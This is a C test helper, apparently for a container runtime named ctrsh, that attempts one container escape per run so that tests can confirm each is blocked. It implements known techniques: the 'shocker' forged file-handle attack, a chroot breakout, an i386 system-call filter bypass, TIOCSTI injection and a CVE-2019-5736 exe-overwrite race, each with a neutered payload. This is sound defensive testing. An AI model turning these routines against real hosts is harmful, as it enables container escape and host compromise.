/* probe: one escape attempt per run, for tests/escape.rs.
 *
 * Compiled statically at test time (cc -static) and copied into the test
 * rootfs, so it needs nothing from the container. `probe NAME [ARGS]` makes
 * the system call(s) NAME stands for and prints "ok" when the attempt
 * worked, or the name of the errno it failed with ("EPERM"). "ids" prints
 * the effective uid and capabilities instead. Harmless when an attempt
 * works: files are only opened for writing, never written (exe_race
 * writes a byte over the same byte); the module is garbage the kernel
 * refuses to link; the terminal gets a '#'.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int report(long rc) {
    if (rc < 0) {
        const char *name = strerrorname_np(errno);
        printf("%s\n", name ? name : "E?");
        return 1;
    }
    printf("ok\n");
    return 0;
}

static void need(int argc, int n, const char *usage) {
    if (argc < n) {
        fprintf(stderr, "usage: probe %s\n", usage);
        exit(2);
    }
}

/* A trivial socket filter: r0 = 0; exit. */
static long load_bpf(void) {
    struct bpf_insn insns[] = {
        {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 0},
        {.code = BPF_JMP | BPF_EXIT},
    };
    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
    attr.insns = (unsigned long)insns;
    attr.insn_cnt = 2;
    attr.license = (unsigned long)"GPL";
    return syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof attr);
}

/* Counting our own CPU clock: what an unprivileged host process may do at
 * perf_event_paranoid <= 2. */
static long open_perf_event(void) {
    struct perf_event_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.size = sizeof attr;
    attr.type = PERF_TYPE_SOFTWARE;
    attr.config = PERF_COUNT_SW_TASK_CLOCK;
    attr.exclude_kernel = 1;
    return syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);
}

static long load_module(const char *path) {
    static char image[4096];
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return -1;
    ssize_t n = read(fd, image, sizeof image);
    close(fd);
    if (n < 0)
        return -1;
    return syscall(SYS_init_module, image, (unsigned long)n, "");
}

static long load_module_fd(const char *path) {
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return -1;
    return syscall(SYS_finit_module, fd, "", 0);
}

/* A child in a new user namespace through clone(2) rather than unshare(2). */
static long clone_user_ns(void) {
    pid_t pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0)
        _exit(0);
    if (pid > 0)
        waitpid(pid, NULL, 0);
    return pid;
}

/* The "shocker" attack: open the filesystem's root directory (inode 2 on
 * ext4) by a forged handle, bypassing the mount namespace. `path` is any
 * file on the same filesystem, to learn the handle type from. */
static long open_by_forged_handle(const char *path) {
    struct {
        struct file_handle h;
        unsigned char bytes[MAX_HANDLE_SZ];
    } fh;
    int mount_id;
    fh.h.handle_bytes = MAX_HANDLE_SZ;
    if (syscall(SYS_name_to_handle_at, AT_FDCWD, path, &fh.h, &mount_id, 0) < 0)
        return -1;
    unsigned int root[2] = {2, 0}; /* inode 2, generation 0 */
    memcpy(fh.h.f_handle, root, sizeof root);
    fh.h.handle_bytes = sizeof root;
    int mount_fd = open(path, O_RDONLY);
    if (mount_fd < 0)
        return -1;
    return syscall(SYS_open_by_handle_at, mount_fd, &fh.h, O_RDONLY | O_DIRECTORY);
}

/* The classic chroot breakout: chroot into a subdirectory while keeping the
 * cwd outside it, walk up, and chroot to where the walk ended. Then try to
 * see `marker`. */
static long chroot_breakout(const char *jail, const char *marker) {
    mkdir(jail, 0700);
    if (chdir("/") < 0 || chroot(jail) < 0)
        return -1;
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return -1;
    if (chroot(".") < 0)
        return -1;
    return open(marker, O_RDONLY);
}

/* keyctl(KEYCTL_JOIN_SESSION_KEYRING, NULL) through the i386 system call
 * entry (int 0x80, i386 number 288): a filter that checks only x86_64
 * numbers would let it through. */
static long i386_keyctl(void) {
    long rc;
    __asm__ volatile("int $0x80" : "=a"(rc) : "a"(288L), "b"(1L), "c"(0L) : "memory");
    if (rc < 0 && rc > -4096) {
        errno = (int)-rc;
        return -1;
    }
    return rc;
}

static int ids(void) {
    char line[256];
    FILE *status = fopen("/proc/self/status", "r");
    printf("euid=%u\n", (unsigned)geteuid());
    while (status && fgets(line, sizeof line, status))
        if (strncmp(line, "CapEff:", 7) == 0)
            fputs(line, stdout);
    return 0;
}

/* Whether /proc/PID/cmdline is exactly "ctrsh\0init\0": a ctrsh init that
 * has not exec'd the container's program yet. */
static int is_ctrsh_init(int pid) {
    static const char want[] = "ctrsh\0init";
    char path[64], buf[sizeof want + 1];
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, buf, sizeof buf);
    close(fd);
    return n == (ssize_t)sizeof want && memcmp(buf, want, sizeof want) == 0;
}

/* CVE-2019-5736, as the exploit does it: catch a `ctrsh init` that joins
 * the container, hold an O_PATH fd to its /proc/PID/exe, wait until it no
 * longer runs that binary (it exec'd the container's program, or exited),
 * then reopen the fd for writing through /proc/self/fd/N and write, at
 * offset 0, the byte that is there in every ELF file (0x7f): a change of
 * nothing, should it work. While other inits run the same binary the open
 * gives ETXTBSY; that is waited out. Prints "holding DEV INO" once it has
 * the fd, then "caught DEV INO ok" or "caught DEV INO open|write ERRNO";
 * "none ERRNO" when nothing was caught within SECONDS (ERRNO: why the
 * last /proc/PID/exe seen could not be opened, "-" if no init showed). */
static int exe_race(int seconds) {
    time_t deadline = time(NULL) + seconds;
    const char *denied = "-";
    int exe = -1, pid = 0;
    setvbuf(stdout, NULL, _IOLBF, 0);
    while (exe < 0 && time(NULL) < deadline) {
        DIR *proc = opendir("/proc");
        struct dirent *d;
        while (proc && exe < 0 && (d = readdir(proc))) {
            pid = atoi(d->d_name);
            if (pid <= 0 || !is_ctrsh_init(pid))
                continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            exe = open(path, O_PATH);
            if (exe < 0)
                denied = strerrorname_np(errno);
        }
        if (proc)
            closedir(proc);
    }
    if (exe < 0) {
        printf("none %s\n", denied);
        return 1;
    }
    struct stat held, now;
    fstat(exe, &held);
    printf("holding %llu %llu\n", (unsigned long long)held.st_dev,
           (unsigned long long)held.st_ino);
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    while (time(NULL) < deadline && stat(path, &now) == 0 && now.st_dev == held.st_dev &&
           now.st_ino == held.st_ino)
        usleep(1000);
    snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
    int w;
    while ((w = open(path, O_WRONLY)) < 0 && errno == ETXTBSY && time(NULL) < deadline)
        usleep(1000);
    printf("caught %llu %llu ", (unsigned long long)held.st_dev,
           (unsigned long long)held.st_ino);
    if (w < 0) {
        printf("open %s\n", strerrorname_np(errno));
        return 0;
    }
    if (pwrite(w, "\x7f", 1, 0) != 1) {
        printf("write %s\n", strerrorname_np(errno));
        return 0;
    }
    printf("ok\n");
    return 0;
}

int main(int argc, char **argv) {
    need(argc, 2, "NAME [ARGS]");
    const char *name = argv[1];
    if (!strcmp(name, "ids"))
        return ids();
    if (!strcmp(name, "keyctl"))
        return report(syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, "ctrsh-escape"));
    if (!strcmp(name, "add_key"))
        return report(syscall(SYS_add_key, "user", "ctrsh-escape", "x", 1,
                              KEY_SPEC_PROCESS_KEYRING));
    if (!strcmp(name, "i386_keyctl"))
        return report(i386_keyctl());
    if (!strcmp(name, "bpf"))
        return report(load_bpf());
    if (!strcmp(name, "perf_event_open"))
        return report(open_perf_event());
    if (!strcmp(name, "unshare_user"))
        return report(unshare(CLONE_NEWUSER));
    if (!strcmp(name, "clone_user"))
        return report(clone_user_ns());
    if (!strcmp(name, "init_module")) {
        need(argc, 3, "init_module FILE");
        return report(load_module(argv[2]));
    }
    if (!strcmp(name, "finit_module")) {
        need(argc, 3, "finit_module FILE");
        return report(load_module_fd(argv[2]));
    }
    if (!strcmp(name, "openw")) {
        need(argc, 3, "openw PATH");
        return report(open(argv[2], O_WRONLY));
    }
    if (!strcmp(name, "open")) {
        need(argc, 3, "open PATH");
        return report(open(argv[2], O_RDONLY));
    }
    if (!strcmp(name, "mount_tmpfs")) {
        need(argc, 3, "mount_tmpfs DIR");
        return report(mount("tmpfs", argv[2], "tmpfs", 0, NULL));
    }
    if (!strcmp(name, "umount")) {
        need(argc, 3, "umount PATH");
        return report(umount2(argv[2], MNT_DETACH));
    }
    if (!strcmp(name, "pivot_root")) {
        need(argc, 4, "pivot_root NEW PUT_OLD");
        return report(syscall(SYS_pivot_root, argv[2], argv[3]));
    }
    if (!strcmp(name, "ptrace")) {
        need(argc, 3, "ptrace PID");
        return report(ptrace(PTRACE_ATTACH, atoi(argv[2]), 0, 0));
    }
    if (!strcmp(name, "kill0")) {
        need(argc, 3, "kill0 PID");
        return report(kill(atoi(argv[2]), 0));
    }
    if (!strcmp(name, "open_by_handle")) {
        need(argc, 3, "open_by_handle PATH");
        return report(open_by_forged_handle(argv[2]));
    }
    if (!strcmp(name, "chroot_breakout")) {
        need(argc, 4, "chroot_breakout JAIL MARKER");
        return report(chroot_breakout(argv[2], argv[3]));
    }
    if (!strcmp(name, "tiocsti")) {
        /* Push a harmless '#' into the input of the terminal on fd 0, or
         * of the terminal at PATH (/dev/tty: the controlling one). */
        char c = '#';
        int fd = argc > 2 ? open(argv[2], O_RDWR | O_NOCTTY) : 0;
        if (fd < 0)
            return report(-1);
        return report(ioctl(fd, TIOCSTI, &c));
    }
    if (!strcmp(name, "raise_nofile")) {
        need(argc, 3, "raise_nofile HARD");
        struct rlimit r;
        getrlimit(RLIMIT_NOFILE, &r);
        r.rlim_max = strtoul(argv[2], NULL, 10);
        return report(setrlimit(RLIMIT_NOFILE, &r));
    }
    if (!strcmp(name, "flock")) {
        /* Hold an exclusive lock on PATH until killed (for checkpoints
         * with file locks): "ok" once it has it. */
        need(argc, 3, "flock PATH");
        int fd = open(argv[2], O_RDWR | O_CREAT, 0644);
        if (fd < 0 || flock(fd, LOCK_EX) < 0)
            return report(-1);
        report(0);
        fflush(stdout);
        for (;;)
            pause();
    }
    if (!strcmp(name, "unix_counter")) {
        /* Count from 1, every 50 ms, to stdout and as datagrams to the
         * unix socket at PATH (for checkpoints with external sockets). */
        need(argc, 3, "unix_counter PATH");
        struct sockaddr_un addr = {.sun_family = AF_UNIX};
        snprintf(addr.sun_path, sizeof addr.sun_path, "%s", argv[2]);
        int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
        if (fd < 0 || connect(fd, (struct sockaddr *)&addr, sizeof addr) < 0)
            return report(-1);
        setvbuf(stdout, NULL, _IOLBF, 0);
        for (unsigned long i = 1;; i++) {
            char line[32];
            int n = snprintf(line, sizeof line, "%lu\n", i);
            send(fd, line, n, 0);
            fputs(line, stdout);
            usleep(50000);
        }
    }
    if (!strcmp(name, "trylock")) {
        need(argc, 3, "trylock PATH");
        int fd = open(argv[2], O_RDWR | O_CREAT, 0644);
        return report(fd < 0 ? -1 : flock(fd, LOCK_EX | LOCK_NB));
    }
    if (!strcmp(name, "exe_race")) {
        need(argc, 3, "exe_race SECONDS");
        return exe_race(atoi(argv[2]));
    }
    fprintf(stderr, "probe: unknown attempt '%s'\n", name);
    return 2;
}
